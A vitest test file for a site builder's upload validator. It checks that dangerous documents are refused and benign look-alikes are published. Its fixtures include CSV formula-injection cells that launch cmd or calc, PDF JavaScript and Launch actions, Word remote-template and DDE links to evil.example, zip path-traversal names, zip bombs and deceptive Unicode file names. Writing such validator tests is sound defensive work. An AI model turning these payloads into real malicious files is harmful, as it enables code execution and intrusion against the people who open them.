// Documents that nobody should publish: each is made here, put into content/files and linked, and refused by name.
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { calendar, listed, office, pdf, sound, stream, zip } from '../support/documents.ts';
import { check, type FileContent } from '../support/site.ts';

const HTML = '<!doctype html><html><script>alert(1)</script></html>';
const home = (to: string): string =>
  `title: Home\ndescription: A page.\nblocks:\n  - type: buttons\n    items:\n      - label: Get it\n        to: ${JSON.stringify(to)}\n`;

/** What is said of a document that a page links to. */
const judged = (name: string, content: FileContent): string[] => {
  const result = check({
    [`content/files/${name}`]: content,
    'content/pages/home.yaml': home(`files/${name}`),
  });
  const mistakes = result.diagnostics.filter(({ severity }) => severity === 'error');
  // Nothing is published where one document is refused.
  if (mistakes.length > 0) expect(result.output).toBeUndefined();
  for (const one of mistakes) expect(one.file).toBe(`content/files/${name}`);
  return mistakes.map(({ code, said }) => {
    const { reason } = (said?.params ?? {}) as { reason?: { say: string } };
    return reason ? `${code} ${reason.say}` : code;
  });
};

const rels = (relations: string) => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships>${relations}</Relationships>`,
});
const external = (type: string, target: string) =>
  rels(
    `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  );
/** A PDF with a piece in it, a quarter of a million times. */
const around = (piece: string, trailer = ''): Buffer =>
  pdf({ objects: [piece.repeat(250_000)], trailer });
const big = Buffer.alloc(60_000_000);
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const noise = randomBytes(1_000_000);
const many = <T>(count: number, make: (n: number) => T): T[] =>
  Array.from({ length: count }, (_, n) => make(n));
/** A document with another one in it. */
const within = (kind: Kind, inner: Kind, other: Buffer): Buffer =>
  office(kind, [{ name: `word/embeddings/a.${inner}`, content: other }]);
type Kind = 'docx' | 'xlsx' | 'pptx';
/** An extra field of Info-ZIP that says a name in UTF-8. */
const unicodeName = (name: string): Buffer => {
  const extra = Buffer.concat([
    Buffer.from('7570000001', 'hex'),
    Buffer.alloc(4),
    Buffer.from(name),
  ]);
  extra.writeUInt16LE(extra.length - 4, 2);
  return extra;
};
const inLatin = (name: string) => ({ name, raw: Buffer.from(name, 'latin1') });
const withTail = (bytes: Buffer, tail: string | Buffer) =>
  Buffer.concat([bytes, Buffer.from(tail)]);

/** What a program for tables works out, and what it may run or ask with it. */
const FORMULAS = [
  ...['=HYPERLINK("https://example.org")', '+SUM(A1:A3)', '@SUM(1)', "-2+3+cmd|' /C calc'!A0"],
  ...['=A1', '+A1', '-B2*2', '--A1', '==A1', '=2+3', '="x"', '=Sheet2!A1', "+'[x.xls]S'!A1"],
  ...['+HYPERLINK ("https://x")', '@SUM (1)', '-NOW()', '=IF(1,2', '=DDE("cmd";"/C calc";"x")'],
  ...['＝1+1', '＝HYPERLINK("x")', '\t=1+1', '\r=A1', '\u00a0=A1', '\u200b=A1', '={1,2}'],
  ...["=MSEXCEL|'\\..\\cmd.exe /c calc'!''", '-foo(A1)', "+1 cmd|'/c x'!A", '+HIPERVINCULO ("x")'],
];
/** What looks like one, and is what people write. */
const TEXTS = [
  ...[
    '+1 (555) 010-0199',
    '- two trays (veggie)',
    '+ 4 (borrowed)',
    '@led (public)',
    '=====',
    '=)',
  ],
  ...['- 7 PM | Info night', '- 7 PM | Info night!', '---', '@led2026', '-2+3', '+1-555-010-0199'],
  ...[
    '+44 20 7946 0958',
    '- pizza (2)',
    '=> see below',
    '=== Fall ===',
    '- B12 lab',
    '-12,50',
    '-3%',
  ],
  ...[
    '- call (805) 555-0100',
    '+1 555-0100 x(4)',
    '- ask Maya, then Bo (2)',
    '- "quoted"',
    '-7:30',
  ],
  ...[
    '@maya @bo',
    '- e.g. A1',
    '- half-time (20 min)',
    '- dues: $20 (fall)',
    '= see below',
    '-A4 paper',
  ],
];

const REFUSED: Readonly<
  Record<string, readonly [name: string, content: FileContent, said: string]>
> = {
  'HTML named .pdf': ['a.pdf', HTML, 'holdsPage'],
  'HTML behind blanks and a mark': ['a.csv', `\ufeff\n\t ${HTML}`, 'holdsPage'],
  'SVG named .pdf': ['a.pdf', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'holdsDrawing'],
  'XML named .csv': ['a.csv', '<?xml version="1.0"?><svg/>', 'holdsDrawing'],
  'HTML in the head of a PDF': [
    'a.pdf',
    Buffer.from(`%PDF-1.7\n${HTML}\nstartxref\n9\n%%EOF`),
    'holdsPage',
  ],
  'a PDF behind something else': [
    'a.pdf',
    Buffer.concat([Buffer.from('MZ\0\0'), pdf()]),
    'otherKind',
  ],
  'a PDF with an archive behind it': ['a.pdf', withTail(pdf(), zip([{ name: 'a.txt' }])), 'goesOn'],
  'a PDF with an archive inside its end': [
    'a.pdf',
    withTail(withTail(pdf(), zip([{ name: 'a.txt' }])), '\nstartxref\n9\n%%EOF'),
    'goesOn',
  ],
  'a PDF that is cut off': ['a.pdf', pdf().subarray(0, 300), 'cutOff'],
  'a PDF with a password': ['a.pdf', pdf({ trailer: '/Encrypt 9 0 R' }), 'encrypted'],
  'a PDF with a password, its name in numbers': [
    'a.pdf',
    pdf({ trailer: '/#45ncr#79pt 9 0 R' }),
    'encrypted',
  ],
  'a PDF with a script': [
    'a.pdf',
    pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    'holdsScript',
  ],
  'a PDF with a script in a list of objects': [
    'a.pdf',
    pdf({ objects: [listed({ 20: '<< /S /JavaScript /JS (x) >>' })] }),
    'holdsScript',
  ],
  'a PDF with a script, its name in numbers': [
    'a.pdf',
    pdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (x) >>' }),
    'holdsScript',
  ],
  'a PDF that starts a program': [
    'a.pdf',
    pdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
    'holdsScript',
  ],
  'a PDF with another file in it': [
    'a.pdf',
    pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>' }),
    'holdsFiles',
  ],
  // An action is one wherever it stands, and however its name is written.
  ...Object.fromEntries(
    Object.entries({
      'behind a link': ['<< /Subtype /Link /A << /S /JavaScript /JS (x) >> >>'],
      'behind a bookmark': ['<< /Title (x) /A << /Type /Action /S /Launch /F (calc.exe) >> >>'],
      'behind another action': ['<< /S /URI /URI (x) /Next [<< /S /JavaScript /JS 8 0 R >>] >>'],
      'in a list of names': ['<< /Names [(a) << /S /#4aavaScript /JS (x) >>] >>'],
      'of a field': ['<< /FT /Tx /AA << /K << /S /SubmitForm /F (x) >> >> >>'],
      'of a page, in another object': ['<< /AA 8 0 R >>', '<< /O 9 0 R >>'],
      'in pieces': ['<< /S 8 0 R /JS 9 0 R >>', '/JavaScript'],
      'of a form with a program': ['<< /XFA [(template) 8 0 R] >>'],
      'of a screen': ['<< /Subtype /RichMedia >>'],
      'that opens an address by itself': ['<< /OpenAction << /S /URI /URI (https://x.org) >> >>'],
      'behind one that stays in the document': [
        '<< /OpenAction << /S /GoTo /D [3 0 R] /Next [8 0 R] >> >>',
        '<< /S /URI /URI (https://x.org) >>',
      ],
      'of two kinds': ['<< /OpenAction 8 0 R >>', '<< /S /GoTo /S /URI /URI (https://x.org) >>'],
      'of a kind that stands elsewhere': ['<< /OpenAction << /S 8 0 R /F (x) >> >>', '/SubmitForm'],
      'of an article elsewhere': ['<< /OpenAction << /S /Thread /F (//x/y.pdf) /D 0 >> >>'],
      'of a drawing in three dimensions': ['<< /Type /3D /OnInstantiate 8 0 R >>'],
      'in a stream, where an offset may lead': [stream('\n9 0 obj << /S /JavaScript >>', '')],
      'behind a stream that says it is longer': [
        '<< /Length 40 >>\nstream\nendstream endobj 9 0 obj << /JS (x) >> endstream',
      ],
      'behind a comment': ['<< /A %>>\n << /S /JavaScript >> >>'],
      'behind a word that is no key': ['<< endobj /S /JavaScript >>'],
      'in a list without a type': [listed({ 20: '<< /JS (x) >>' }).replace('/Type /ObjStm', '')],
      'in a list that begins elsewhere': [
        stream('20 9 [ (ab) << /JS (x) >>', '/N 1 /First 5 /Type /ObjStm'),
      ],
    }).map(([where, objects]) => [`a script ${where}`, ['a.pdf', pdf({ objects }), 'holdsScript']]),
  ),
  'a file in a note': ['a.pdf', pdf({ objects: ['<< /Subtype /FileAttachment >>'] }), 'holdsFiles'],
  'a file that belongs to a page': [
    'a.pdf',
    pdf({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'] }),
    'holdsFiles',
  ],
  'a file under a name of DOS': [
    'a.pdf',
    pdf({ objects: ['<< /Type /Filespec /DOS (a.exe) /EF << /DOS 9 0 R >> >>'] }),
    'holdsFiles',
  ],
  'a PDF that says by a short key how its list of objects is packed': [
    'a.pdf',
    pdf({ objects: [listed({ 20: '<< /JS (x) >>' }).replace('/Filter', '/F')] }),
    'holdsScript',
  ],
  'a form that came with the PDF': [
    'a.pdf',
    Buffer.concat([Buffer.from('------abc\r\nContent-Type: application/pdf\r\n\r\n'), pdf()]),
    'beginsBefore',
  ],
  'a page before a PDF': ['a.pdf', Buffer.concat([Buffer.from(`x ${HTML}`), pdf()]), 'holdsPage'],
  'a PDF that hides its list of objects': [
    'a.pdf',
    pdf({
      objects: [
        stream('3c3c>', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]'),
      ],
    }),
    'hidesParts',
  ],
  'a PDF whose list of objects never ends': [
    'a.pdf',
    pdf({ objects: [stream('0'.repeat(120_000_000), '/Type /ObjStm /N 1 /First 4', true)] }),
    'hidesParts',
  ],
  'macros in a Word file': [
    'a.docx',
    office('docx', [{ name: 'word/vbaProject.bin' }]),
    'holdsMacros',
  ],
  'a file with macros under another name': [
    'a.docx',
    office('docx', [
      {
        name: '[Content_Types].xml',
        content:
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
    ]),
    'holdsMacros',
  ],
  'macros of Excel 4': [
    'a.xlsx',
    office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml' }]),
    'holdsMacros',
  ],
  'a Word file that is a table': ['a.docx', office('xlsx'), 'otherKind'],
  'an archive named .docx': ['a.docx', zip([{ name: 'a.txt', content: 'a' }]), 'otherKind'],
  'a Word file with a password': [
    'a.docx',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    'encryptedOrOld',
  ],
  'a template from elsewhere': [
    'a.docx',
    office('docx', [external('attachedTemplate', 'https://evil.example/t.dotm')]),
    'loadsElsewhere',
  ],
  'a template from elsewhere, in numbers': [
    'a.docx',
    office('docx', [
      rels(
        "<Relationship Type='http://x/attachedTemplate' Target='https://evil.example/' TargetMode='&#69;xternal'/>",
      ),
    ]),
    'loadsElsewhere',
  ],
  'a table that reads another one': [
    'a.xlsx',
    office('xlsx', [
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        content:
          '<Relationships><Relationship Type="http://x/externalLinkPath" Target="file:///C:/dues.xlsx" TargetMode="External"/></Relationships>',
      },
    ]),
    'loadsElsewhere',
  ],
  'a field that asks another program': [
    'a.docx',
    office('docx', [
      {
        name: 'word/document.xml',
        content: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>',
      },
    ]),
    'loadsElsewhere',
  ],
  'a part with words of its own': [
    'a.docx',
    office('docx', [rels('<!DOCTYPE x [<!ENTITY a "External">]>')]),
    'hidesParts',
  ],
  'a part in UTF-16': [
    'a.docx',
    office('docx', [{ name: 'word/x.rels', content: utf16('<Relationships/>') }]),
    'hidesParts',
  ],
  'a page in a Word file': [
    'a.docx',
    office('docx', [{ name: 'word/afchunk.htm', content: HTML }]),
    'holdsProgram',
  ],
  'an object of another program in a table': [
    'a.xlsx',
    office('xlsx', [{ name: 'xl/embeddings/oleObject1.bin' }]),
    'holdsObject',
  ],
  'a part of many times its size': [
    'a.docx',
    office('docx', [{ name: 'word/document.xml', content: 'x', saidSize: 30_000_000 }]),
    'unpacksManyfold',
  ],
  'parts of many times their size together': [
    'a.pptx',
    office(
      'pptx',
      [1, 2, 3].map((n) => ({
        name: `ppt/slides/slide${n}.xml`,
        content: 'x',
        saidSize: 9_000_000,
      })),
    ),
    'unpacksManyfold',
  ],
  'a part that is too large': [
    'a.xlsx',
    office('xlsx', [{ name: 'xl/sharedStrings.xml', content: noise, saidSize: 65_000_000 }]),
    'partTooLarge',
  ],
  'too many parts': [
    'a.xlsx',
    office(
      'xlsx',
      many(5_001, (n) => ({ name: `xl/worksheets/sheet${n}.xml` })),
    ),
    'tooManyFiles',
  ],
  'too many files in an archive': [
    'a.zip',
    zip(many(10_001, (n) => ({ name: `${n}` }))),
    'tooManyFiles',
  ],
  'too many relations': [
    'a.docx',
    office('docx', [rels('<Relationship Id="r" Type="t" Target="x"/>'.repeat(50_001))]),
    'tooManyRelations',
  ],
  'documents in documents in documents': [
    'a.docx',
    within('docx', 'xlsx', within('xlsx', 'pptx', within('pptx', 'docx', office('docx')))),
    'hidesParts',
  ],
  'macros in a document in a document': [
    'a.docx',
    within('docx', 'docx', office('docx', [{ name: 'word/vbaProject.bin' }])),
    'holdsMacros',
  ],
  'a template from a server of Windows': [
    'a.docx',
    office('docx', [external('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm')]),
    'loadsElsewhere',
  ],
  'a photo from elsewhere, told among the photos': [
    'a.docx',
    office('docx', [
      { ...external('image', 'https://evil.example/a.jpg'), name: 'word/media/_rels/a.xml.rels' },
    ]),
    'loadsElsewhere',
  ],
  'a simple field that asks another program': [
    'a.docx',
    office('docx', [
      { name: 'word/document.xml', content: '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>' },
    ]),
    'loadsElsewhere',
  ],
  'a field with another prefix, in another folder': [
    'a.docx',
    office('docx', [{ name: 'text/a.xml', content: '<x:instrText>DDE c</x:instrText>' }]),
    'loadsElsewhere',
  ],
  ...Object.fromEntries(
    Object.entries({
      'in small letters': '<w:instrText>ddeauto c:\\\\cmd.exe</w:instrText>',
      'with letters as numbers': '<w:instrText>&#68;DE c</w:instrText>',
      'in pieces of text': '<w:instrText><![CDATA[DDE c]]></w:instrText>',
      'as a number in an attribute': "<w:fldSimple w:instr='&#x44;DE c'/>",
      'between quotes of others':
        '<w:fldSimple w:instr=\'A "\'/><w:fldSimple w:instr="DDE c"/><w:fldSimple w:instr=\'A "\'/>',
    }).map(([how, content]) => [
      `a field that asks another program, ${how}`,
      ['a.docx', office('docx', [{ name: 'word/document.xml', content }]), 'loadsElsewhere'],
    ]),
  ),
  'a template from elsewhere, with a prefix of many signs': [
    'a.docx',
    office('docx', [
      rels('<a-b:Relationship Type="/image" Target="http://evil.example" TargetMode="External"/>'),
    ]),
    'loadsElsewhere',
  ],
  'a kind of macros with letters as numbers': [
    'a.docx',
    office('docx', [
      {
        name: '[Content_Types].xml',
        content:
          '<Types><Override ContentType="application/vnd.ms-office.vbaPro&#106;ect"/></Types>',
      },
    ]),
    'holdsMacros',
  ],
  'a photo from elsewhere': [
    'a.docx',
    office('docx', [external('image', 'file:///C:/Users/maya/a.jpg')]),
    'loadsElsewhere',
  ],
  'a name that leads out': [
    'a.zip',
    zip([{ name: '../../etc/cron.d/x', content: 'x' }]),
    'leadsOut',
  ],
  'a name from the root': ['a.zip', zip([{ name: '/etc/passwd' }]), 'leadsOut'],
  'a name of a drive': ['a.zip', zip([{ name: 'C:x.txt' }]), 'leadsOut'],
  'a name with backslashes': ['a.zip', zip([{ name: '..\\..\\x.txt' }]), 'leadsOut'],
  'a name of Windows that leads out': ['a.zip', zip([inLatin('..\\a\xa4o.txt')]), 'leadsOut'],
  'a second name that leads out': [
    'a.zip',
    zip([{ name: 'a.txt', extra: unicodeName('../a.txt') }]),
    'leadsOut',
  ],
  'a program under its second name': [
    'a.zip',
    zip([{ name: 'a.txt', extra: unicodeName('a.exe') }]),
    'holdsProgram',
  ],
  'a name with a sign that cannot be seen': [
    'a.zip',
    zip([{ name: 'by\u200blaws.txt' }]),
    'leadsOut',
  ],
  'a joiner that joins nothing': ['a.zip', zip([{ name: 'bylaws.\u200dtxt' }]), 'leadsOut'],
  'a name that is said to be UTF-8 and is not': [
    'a.zip',
    zip([{ ...inLatin('a\xa4o.txt'), flags: 0x800 }]),
    'leadsOut',
  ],
  'a name that turns around': ['a.zip', zip([{ name: 'bylaws\u202efdp.txt' }]), 'leadsOut'],
  'a link in an archive': [
    'a.zip',
    zip([{ name: 'a', content: '/etc/passwd', mode: 0o120777 }]),
    'holdsLink',
  ],
  'an archive with a password': ['a.zip', zip([{ name: 'a.txt', flags: 1 }]), 'encrypted'],
  'an archive that unpacks too far': [
    'a.zip',
    zip([1, 2, 3, 4].map((n) => ({ name: `${n}.bin`, content: big }))),
    'unpacksTooFar',
  ],
  'an archive that says less than it unpacks': [
    'a.zip',
    zip([{ name: 'a.bin', content: big, saidSize: 10 }]),
    'cutOff',
  ],
  'an archive whose files lie in one another': [
    'a.zip',
    zip([
      { name: 'a', content: zip([{ name: 'b', content: 'x' }]), stored: true },
      { name: 'b', content: 'x', from: 31 },
    ]),
    'unpacksTooFar',
  ],
  'files on top of each other': [
    'a.zip',
    zip([
      { name: 'a.txt', content: 'a' },
      { name: 'A.TXT', content: 'b' },
    ]),
    'twoOfOneName',
  ],
  'a page in an archive': [
    'a.zip',
    zip([{ name: 'site/index.html', content: HTML }]),
    'holdsProgram',
  ],
  'a drawing in an archive': ['a.zip', zip([{ name: 'logo.svg' }]), 'holdsProgram'],
  'a program in an archive': ['a.zip', zip([{ name: 'setup.exe' }]), 'holdsProgram'],
  'a file with macros in an archive': ['a.zip', zip([{ name: 'dues.xlsm' }]), 'holdsMacros'],
  'a program before an archive': [
    'a.zip',
    Buffer.concat([Buffer.from('MZ'), zip([{ name: 'a' }])]),
    'beginsBefore',
  ],
  'something behind an archive': ['a.zip', withTail(zip([{ name: 'a' }]), 'more'), 'goesOn'],
  'an archive that is cut off': [
    'a.zip',
    zip([{ name: 'a', content: 'abc' }]).subarray(0, 40),
    'cutOff',
  ],
  'HTML in UTF-16 named .csv': ['a.csv', utf16(HTML), 'holdsPage'],
  'HTML in a cell': ['a.csv', 'name,bio\nMaya,"<script>alert(1)</script>"\n', 'holdsPage'],
  'a formula': ['a.csv', "name,dues\nMaya,=cmd|' /C calc'!A0\n", 'holdsFormula'],
  'a formula in quotes': [
    'a.csv',
    'name;dues\nMaya;"=HYPERLINK(""https://evil.example"")"\n',
    'holdsFormula',
  ],
  'a formula with another sign': ['a.csv', "a\n@SUM(1+1)*cmd|' /C calc'!A0\n", 'holdsFormula'],
  ...Object.fromEntries(
    FORMULAS.map((cell) => [
      `the formula ${cell}`,
      [
        'a.csv',
        `a,b\nx,${/[",;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell}\n`,
        'holdsFormula',
      ] as const,
    ]),
  ),
  'a formula where cells are parted by another sign': [
    'a.csv',
    'a;"b\n1;"x,=HYPERLINK(""https://evil.example"")"\n',
    'holdsFormula',
  ],
  'a formula where the table says its sign': ['a.csv', 'sep=|\na|=A1+1\n', 'holdsFormula'],
  'bytes named .csv': ['a.csv', Buffer.from([0, 1, 2, 3, 0xff]), 'otherKind'],
  'a calendar that is a page': ['a.ics', HTML, 'holdsPage'],
  'a calendar of other bytes': ['a.ics', 'BEGIN:VCARD\r\nEND:VCARD\r\n', 'otherKind'],
  'a calendar that is cut off': ['a.ics', calendar.slice(0, 30), 'cutOff'],
  'a sound that is a page': ['a.mp3', HTML, 'holdsPage'],
  'a page behind the tag of a sound': [
    'a.mp3',
    Buffer.from(`ID3\x03\0\0\0\0\0\x0a0123456789${HTML}`, 'latin1'),
    'otherKind',
  ],
  'a sound that ends in another file': [
    'a.mp3',
    withTail(sound(3), 'PK\x03\x04 and so on'),
    'otherKind',
  ],
  // Each of these would keep a reader busy for hours that looks at all of it for every part.
  'a PDF of nothing but streams': [
    'a.pdf',
    around('>>stream\n', '/X << /S /JavaScript >>'),
    'holdsScript',
  ],
  'a PDF of nothing but lists': ['a.pdf', around('1 0 obj</ObjStm>>stream\n'), 'hidesParts'],
  'a PDF that says a million times who made it': [
    'a.pdf',
    around('/Info 6 0 R 6 0 obj (a)'),
    'hidesParts',
  ],
  'a PDF with descriptions that never end': [
    'a.pdf',
    around('<rdf:RDF><dc:creator>'),
    'hidesParts',
  ],
  'a table of blank lines': ['a.csv', `a${'\n'.repeat(5_000_000)}=1`, 'holdsFormula'],
  'nothing at all': ['a.pdf', Buffer.alloc(0), 'emptyFile'],
};

describe('refused by name', () => {
  it.each(Object.entries(REFUSED))('%s', (_, [name, content, said]) => {
    expect(judged(name, content)).toEqual([`document/refused ${said}`]);
  });

  it('a name says what is wrong with it', () => {
    const reasonOf = (name: string) => {
      const { diagnostics } = check({ 'content/files/a.zip': zip([{ name }]) });
      return diagnostics.find(({ code }) => code === 'document/refused')?.message;
    };
    const reasons = ['../x', '/x', 'C:x', 'a\\x', 'a\u202ex', 'a\u2066x', 'a\u0007x'].map(reasonOf);
    expect(reasons.map((one) => one?.replace(/^.*it holds a file (.*) \(.*$/, '$1'))).toEqual([
      'whose name leads out of its folder',
      'whose name begins with a slash',
      'whose name begins with a drive',
      'with a backslash in its name',
      'whose name reverses the direction of its text',
      'whose name reverses the direction of its text',
      'whose name has a character that cannot be seen or read',
    ]);
  });

  it('a text that may be taken for a formula is published when the advice is followed', () => {
    const [cell, better] = ['+A1', 'Vitamin +A1'];
    expect(judged('a.csv', `a,b\n${cell},x\n`)).toEqual(['document/refused holdsFormula']);
    expect(judged('a.csv', `a,b\n${better},x\n`)).toEqual([]);
  });

  it('one byte too many, before it is read', () => {
    const most = Buffer.alloc(20_000_001, 'a,b\n');
    expect(judged('a.csv', most)).toEqual(['document/too-large']);
    expect(judged('a.csv', most.subarray(1))).toEqual([]);
  });

  it('kinds that are not published', () => {
    for (const name of [
      'a.exe',
      'a.html',
      'a.svg',
      'a.docm',
      'a.doc',
      'a.js',
      'a.yaml',
      'a',
      'pdf',
    ])
      expect(judged(name, 'x')).toEqual(['document/kind']);
  });

  it('names that are no part of an address, or deceive', () => {
    for (const name of [
      'by laws.pdf',
      'año.pdf',
      'by\u202elaws.pdf',
      'by\u0007laws.pdf',
      'a%2e.pdf',
      '-a.pdf',
    ])
      expect(
        check({ [`content/files/${name}`]: pdf() }).diagnostics.map(({ code }) => code),
      ).toContain('document/name');
  });

  it('links of the file system', () => {
    const codes = (link: string) =>
      check({ 'content/files/a.pdf': { link } }).diagnostics.map(({ code }) => code);
    expect(codes('/etc/passwd')).toContain('file/unreadable');
    expect(codes('../../site.yaml')).toContain('file/unreadable');
  });

  it('names that differ only in case', () => {
    const { diagnostics } = check({ 'content/files/a.pdf': pdf(), 'content/files/A.pdf': pdf() });
    expect(diagnostics.map(({ code }) => code)).toContain('file/same-name');
  });
});

describe('published', () => {
  const GOOD: Readonly<Record<string, FileContent>> = {
    'a.pdf': pdf(),
    // Words are no names, wherever they stand.
    ...Object.fromEntries(
      Object.entries({
        link: ['<< /Subtype /Link /A << /S /URI /URI (https://x.org/Web/JavaScript) >> >>'],
        bookmark: ['<< /Title (CSS/JavaScript and /Launch \\(/AA\\)) >>'],
        words: [stream('BT (/S /JavaScript /EmbeddedFile /Encrypt) Tj ET', '')],
        hex: ['<< /Title <2f4a617661536372697074> >>'],
        comment: ['% /S /JavaScript\n<< /A 1 >>'],
        name: ['<< /AS /JavaScript /AP << /N << /JavaScript 8 0 R /Launch 8 0 R >> >> >>'],
        fonts: ['<< /Font << /AA 8 0 R /EF 5 0 R >> >>', '<< /Type /Font /F 1 >>'],
        page: ['<< /OpenAction [3 0 R /Fit] >>', '<< /OpenAction << /S /GoTo /D 8 0 R >> >>'],
      }).map(([where, objects]) => [`${where}.pdf`, pdf({ objects })]),
    ),
    'title.pdf': pdf({ title: 'Kickoff/Launch 2026 /Encrypt 9 0 R' }),
    'bom.pdf': Buffer.concat([Buffer.from('\ufeff'), pdf()]),
    'blank.pdf': Buffer.concat([Buffer.from('\r\n \0'), pdf()]),
    'zeros.pdf': withTail(pdf(), Buffer.alloc(8192)),
    'a.docx': office('docx', [external('hyperlink', 'https://example.com/')]),
    'link.docx': office('docx', [
      {
        name: 'word/document.xml',
        content: '<w:instrText>HYPERLINK "https://example.com/DDE-club"</w:instrText>',
      },
    ]),
    'a.xlsx': office('xlsx'),
    // Read in one go, however often something begins.
    'b.docx': office('docx', [
      { name: 'word/x.rels', content: '<Relationship '.repeat(1_000_000) },
    ]),
    'a.pptx': office('pptx', [{ name: 'ppt/media/image1.svg', content: '<svg/>' }]),
    'a.csv': 'name,dues,phone\n"Okafor, Maya",-5,+1 805 555 0100\n@led,"a ""b""",=)'.replace(
      '=)',
      ':)',
    ),
    'b.csv': Buffer.from('nombre\nJos\xe9\n', 'latin1'),
    'd.csv': Buffer.from('name,fee\nO\x92Neil,\x80 5\n', 'latin1'),
    ...Object.fromEntries(
      TEXTS.map((cell, i) => [
        `text-${i}.csv`,
        `a,b\n${/[",;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell},x\n`,
      ]),
    ),
    'b.zip': zip([inLatin('Reglamento a\xa4o.txt'), inLatin('Informaci\xa2n.txt')]),
    'c.zip': zip([
      { name: 'a_o.txt', raw: Buffer.from('a_o.txt'), extra: unicodeName('año.txt') },
      { name: '👩‍💻 team.txt', flags: 0x800 },
      { name: 'می‌خواهم.txt', flags: 0x800 },
      { name: '🏴\u{e0067}\u{e0062}\u{e007f}.txt', flags: 0x800 },
      { name: '\u200fצילום.txt', flags: 0x800 },
      { name: '__MACOSX/._photo.jpg' },
      { name: 'Icon\r' },
      { name: 'photos/Thumbs.db' },
    ]),
    'c.docx': within('docx', 'xlsx', office('xlsx')),
    'd.docx': office('docx', [
      { name: 'customXml/item1.xml', content: utf16('<x xmlns="y">Maya</x>') },
    ]),
    'c.csv': utf16('a\tb\r\n1\t2\r\n'),
    'a.zip': zip([{ name: 'photos/' }, { name: 'photos/a.jpg', content: 'x', stored: true }], 'Hi'),
    'a.ics': calendar,
    'a.mp3': sound(),
    'b.mp3': withTail(sound(2, false), `TAG${' '.repeat(125)}`),
  };
  it.each(Object.entries(GOOD))('%s', (name, content) => {
    expect(judged(name, content)).toEqual([]);
  });
});
